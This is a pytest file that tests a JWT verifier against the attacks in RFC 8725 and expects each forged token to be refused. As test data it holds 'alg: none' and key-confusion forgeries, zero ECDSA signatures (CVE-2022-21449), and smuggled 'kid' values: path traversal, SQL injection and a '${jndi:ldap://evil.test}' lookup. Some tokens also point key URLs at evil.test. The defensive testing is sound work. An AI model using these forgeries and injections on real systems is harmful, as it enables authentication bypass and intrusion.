"""RFC 8725, JSON Web Token Best Current Practices, point by point: each attack of its section, and that it fails."""

import hmac
import json
from dataclasses import replace
from typing import Any

import pytest

from encrypted_tokens import P256, encrypted, private_text, with_header
from hotgate.identity import base64url
from hotgate.identity.encryption.content_encryption import ENCRYPTIONS
from hotgate.identity.encryption.decryption_key import parse_decryption_key
from hotgate.identity.encryption.token_decryption import TokenDecryption
from hotgate.identity.refusal import CredentialRefused
from hotgate.identity.tokens.accepted_issuers import AcceptedIssuers
from hotgate.identity.tokens.jwt import JwtVerifier, VerifiedToken
from hotgate.identity.tokens.token_rules import TokenRules
from hotgate.identity.verification_keys.key_set import InvalidKeySet, KeySet
from hotgate.identity.verification_keys.public_key import UnusableKey, parse_public_key
from hotgate.identity.verification_keys.shared_secret import SecretKeySet
from hotgate.testing.issuer import Issuer

NOW = 1_800_000_000.0
ISSUER, RSA = Issuer(), Issuer(algorithm="RS256", kid="rsa")
ALGORITHMS = frozenset({"ES256", "RS256", "PS256"})
RULES = TokenRules(AcceptedIssuers([ISSUER.name]), frozenset({"api"}), ALGORITHMS)


def claims(**changes: Any) -> dict[str, Any]:
    good: dict[str, Any] = {"iss": ISSUER.name, "aud": "api", "sub": "ada", "exp": NOW + 60}
    return {name: value for name, value in {**good, **changes}.items() if value is not ...}


def verify(token: bytes, *keys: dict[str, Any], rules: TokenRules = RULES) -> VerifiedToken:
    key_set = KeySet("corp")
    key_set.replace({"keys": list(keys or (ISSUER.jwk(), RSA.jwk()))})
    return JwtVerifier("corp", rules, key_set).verify(token, NOW)


def code_for(token: bytes, *keys: dict[str, Any], rules: TokenRules = RULES) -> str:
    with pytest.raises(CredentialRefused) as caught:
        verify(token, *keys, rules=rules)
    return caught.value.code


def hand_made(header: dict[str, Any], signature: bytes, payload: dict[str, Any] | None = None) -> bytes:
    parts = (json.dumps(header).encode(), json.dumps(payload or claims()).encode(), signature)
    return b".".join(base64url.encode(part) for part in parts)


# --- 2.1 and 3.1: weak signatures, insufficient signature validation; algorithm verification


@pytest.mark.parametrize("algorithm", ["none", "None", "NONE", "nOnE"])
def test_2_1_none_is_no_algorithm(algorithm: str) -> None:
    assert code_for(hand_made({"alg": algorithm}, b"")) == "token-signature-invalid"


@pytest.mark.parametrize("secret", [RSA.key.as_pem(private=False), RSA.key.as_der(private=False)])
def test_2_1_a_public_key_is_no_hmac_secret(secret: bytes) -> None:
    unsigned = hand_made({"alg": "HS256", "kid": "rsa"}, b"").rstrip(b".")
    token = unsigned + b"." + base64url.encode(hmac.digest(secret, unsigned, "sha256"))
    assert code_for(token) == "token-signature-invalid"
    assert code_for(token, rules=replace(RULES, algorithms=ALGORITHMS | {"HS256"})) == "token-signature-invalid"


def test_3_1_a_secret_verifies_no_public_key_algorithm() -> None:
    rules = replace(RULES, algorithms=frozenset({"HS256", "RS256"}))
    verifier = JwtVerifier("corp", rules, SecretKeySet("corp", RSA.key.as_pem(private=False)))
    with pytest.raises(CredentialRefused):
        verifier.verify(RSA.token(claims()), NOW)


def test_3_1_each_key_is_used_with_exactly_one_algorithm() -> None:
    other = Issuer(algorithm="PS256", kid="rsa")
    assert verify(other.token(claims()), other.jwk(alg="PS256"))
    assert code_for(other.token(claims()), other.jwk(alg="RS256")) == "token-signature-invalid"
    unfit: list[dict[str, Any]] = [{"use": "enc"}, {"key_ops": ["sign"]}, {"key_ops": []}, {"alg": "RSA-OAEP"}]
    for changes in unfit:
        with pytest.raises(UnusableKey):
            parse_public_key(ISSUER.jwk(**changes))


# --- 3.2: appropriate algorithms


@pytest.mark.parametrize(
    "signature", [bytes(64), bytes(63) + b"\x01", b"\xff" * 64, bytes(31) + b"\x01" + bytes(32), bytes(96), b""]
)
def test_3_2_degenerate_ecdsa_signatures_verify_nothing(signature: bytes) -> None:
    """CVE-2022-21449: r = s = 0 was good for every message and every key."""
    assert code_for(hand_made({"alg": "ES256", "kid": "k1"}, signature)) == "token-signature-invalid"


def test_3_2_the_twin_of_an_ecdsa_signature_is_no_second_credential() -> None:
    """(r, n - s) verifies wherever (r, s) does: nothing here takes a token's bytes for its identity but the cache."""
    order = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
    token = ISSUER.token(claims(jti="1"))
    unsigned, _, signature = token.rpartition(b".")
    raw = base64url.decode(signature)
    twin = raw[:32] + (order - int.from_bytes(raw[32:])).to_bytes(32)
    verified = verify(unsigned + b"." + base64url.encode(twin))
    assert verified.principal.credential == verify(token).principal.credential == "1"


@pytest.mark.parametrize("algorithm", ["RSA1_5", "PBES2-HS256+A128KW"])
def test_3_2_weak_and_costly_encryption_is_not_accepted(algorithm: str) -> None:
    token = with_header(encrypted(ISSUER.token(claims()), P256, alg="ECDH-ES"), alg=algorithm, p2c=10**9, p2s="AAAA")
    assert opening_refused(token) == "token-malformed"


# --- 2.2 and 3.3, 3.5: weak keys


@pytest.mark.parametrize("exponent", [1, 2, 3, 17, 65536, 2**32 + 1])
def test_3_5_rsa_keys_with_odd_exponents_are_not_used(exponent: int) -> None:
    value = base64url.encode(exponent.to_bytes((exponent.bit_length() + 7) // 8)).decode()
    with pytest.raises(UnusableKey, match="exponent"):
        parse_public_key(RSA.jwk(e=value))


@pytest.mark.parametrize(
    ("modulus", "says"), [(2**1023 + 1, "1024 bits"), (2**8192 + 1, "too long|8193"), (2**2047, "even")]
)
def test_3_5_rsa_keys_with_weak_or_costly_numbers_are_not_used(modulus: int, says: str) -> None:
    value = base64url.encode(modulus.to_bytes((modulus.bit_length() + 7) // 8)).decode()
    with pytest.raises(UnusableKey, match=says):
        parse_public_key(RSA.jwk(n=value))


@pytest.mark.parametrize(
    "x", ["A" * 42 + "B", "A" * 43 + "=", "A" * 42 + "+", "A" * 42 + "/", " " + "A" * 42, "A" * 42]
)
def test_3_5_numbers_of_keys_have_one_spelling(x: str) -> None:
    with pytest.raises(UnusableKey):
        parse_public_key(ISSUER.jwk(x=x))


# --- 2.3 and 3.4: elliptic curve inputs


def test_3_4_a_key_must_be_on_its_curve() -> None:
    with pytest.raises(UnusableKey, match="do not make a key"):
        parse_public_key(ISSUER.jwk(y=ISSUER.jwk()["x"]))


def opening_refused(token: bytes) -> str:
    key = parse_decryption_key(private_text(P256))
    opener = TokenDecryption([key], frozenset({"ECDH-ES"}), frozenset(ENCRYPTIONS), is_required=True)
    with pytest.raises(CredentialRefused) as caught:
        opener.opened(token)
    return caught.value.code


def test_3_4_an_ephemeral_key_must_be_on_the_curve_of_the_static_one() -> None:
    point = {"kty": "EC", "crv": "P-256", "x": P256.as_dict()["x"], "y": P256.as_dict()["x"]}
    token = encrypted(ISSUER.token(claims()), P256, alg="ECDH-ES")
    assert opening_refused(with_header(token, epk=point)) == "token-malformed"


# --- 2.3, 3.2 (end), 3.6: encryption and compression


def test_3_6_compressed_tokens_are_refused() -> None:
    """The length of what is compressed tells its content, and its expansion may be endless."""
    token = encrypted(ISSUER.token(claims()), P256, alg="ECDH-ES", zip="DEF")
    assert opening_refused(token) == "token-malformed"


# --- 3.7: UTF-8


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "latin-1", "utf-8-sig", "cp037"])
def test_3_7_text_is_utf_8(encoding: str) -> None:
    payload = json.dumps(claims(sub="ädä"), ensure_ascii=False).encode(encoding)
    assert code_for(ISSUER.signed(b'{"alg":"ES256","kid":"k1"}', payload)) == "token-malformed"


# --- 2.8 and 3.8, 3.9: issuer, subject, audience


@pytest.mark.parametrize("issuer", [..., "https://other.test", "https://idp.test/", "HTTPS://idp.test", ""])
def test_3_8_the_keys_belong_to_the_issuer(issuer: Any) -> None:
    assert code_for(ISSUER.token(claims(iss=issuer))) == "token-issuer-unknown"


@pytest.mark.parametrize("subject", [..., "", None, 5, ["ada"]])
def test_3_8_the_subject_is_a_name(subject: Any) -> None:
    assert code_for(ISSUER.token(claims(sub=subject))) == "token-malformed"


@pytest.mark.parametrize("audience", [..., "other", [], ["other"], "API", " api"])
def test_3_9_a_token_is_used_where_it_was_meant_to_be(audience: Any) -> None:
    assert code_for(ISSUER.token(claims(aud=audience))) == "token-audience-mismatch"


# --- 2.9 and 3.10: received claims are not trusted


@pytest.mark.parametrize(
    "kid", ["../../../dev/null", "k1'; DROP TABLE keys; --", "http://evil.test/", "${jndi:ldap://evil.test}", "\x00"]
)
def test_3_10_a_kid_is_a_name_and_nothing_else(kid: str) -> None:
    assert code_for(ISSUER.token(claims(), {"kid": kid})) == "key-unknown"


@pytest.mark.parametrize("name", ["jku", "x5u", "jwk", "x5c", "x5t", "x5t#S256"])
def test_3_10_keys_and_addresses_of_keys_in_a_token_are_not_followed(name: str) -> None:
    evil = Issuer()
    value: Any = {"jwk": evil.jwk(), "x5c": ["AAAA"]}.get(name, "https://evil.test/keys")
    assert code_for(evil.token(claims(), {name: value})) == "token-signature-invalid"


@pytest.mark.parametrize("name", ["crit", "b64"])
def test_3_10_extensions_that_change_the_meaning_are_refused(name: str) -> None:
    """RFC 7515 §4.1.11, RFC 7797 §6."""
    for value in (["b64"], [], None, False, True):
        assert code_for(ISSUER.token(claims(), {name: value} if value is not None else {name: []})) == "token-malformed"


# --- 2.7 and 3.11, 3.12: one kind of token is not used for another


@pytest.mark.parametrize("kind", ["logout+jwt", "dpop+jwt", "secevent+jwt", "JOSE", "", "id_token", "application/jose"])
def test_3_11_tokens_of_other_kinds_are_refused(kind: str) -> None:
    assert code_for(ISSUER.token(claims(), {"typ": kind})) == "token-malformed"


def test_3_12_a_logout_token_that_does_not_say_so_in_its_type_is_refused() -> None:
    told: dict[str, object] = {"http://schemas.openid.net/event/backchannel-logout": {}}
    assert code_for(ISSUER.token(claims(events=told, sid="s1", jti="j1"))) == "token-malformed"
    assert verify(ISSUER.token(claims(events=["fair", "concert"])))  # a claim of somebody's own


def test_3_12_rules_of_different_kinds_exclude_each_other() -> None:
    rules = replace(RULES, is_rfc9068=True)
    full = claims(iat=NOW, jti="1", client_id="web")
    assert verify(ISSUER.token(full, {"typ": "at+jwt"}), rules=rules)
    assert code_for(ISSUER.token(full, {"typ": "JWT"}), rules=rules) == "token-malformed"
    assert code_for(ISSUER.token(full, {"typ": None}), rules=rules) == "token-malformed"


# --- what every reader of JSON must agree on (2.4: multiplicity of JSON encodings)


@pytest.mark.parametrize(
    "addition",
    [b',"sub":"root"', b',"exp":1,"exp":9e9', b',"a":NaN', b',"a":1e999', b',"a":"\\ud800"', b',"a":' + b"[" * 99],
)
def test_2_4_ambiguous_json_is_refused(addition: bytes) -> None:
    payload = json.dumps(claims()).encode()[:-1] + addition + b"]" * addition.count(b"[") + b"}"
    assert code_for(ISSUER.signed(b'{"alg":"ES256","kid":"k1"}', payload)) == "token-malformed"


@pytest.mark.parametrize("name", ["exp", "nbf", "iat"])
@pytest.mark.parametrize("value", ["1800000060", True, None, [], {}, -1, 2**53 + 2, "1e10", 10**300])
def test_2_4_times_are_numbers(name: str, value: Any) -> None:
    assert code_for(ISSUER.token(claims(**{name: value}))) == "token-malformed"


@pytest.mark.parametrize("part", [0, 1, 2])
@pytest.mark.parametrize("spelling", [b"=", b"==", b"\n", b" ", b"A"])
def test_2_4_base64url_has_one_spelling(part: int, spelling: bytes) -> None:
    segments = ISSUER.token(claims()).split(b".")
    segments[part] += spelling
    assert code_for(b".".join(segments)) in ("token-malformed", "token-signature-invalid")


def test_a_document_with_a_key_twice_is_no_key_set() -> None:
    with pytest.raises(InvalidKeySet):
        verify(ISSUER.token(claims()), {"kty": "oct", "k": "AAAA"})
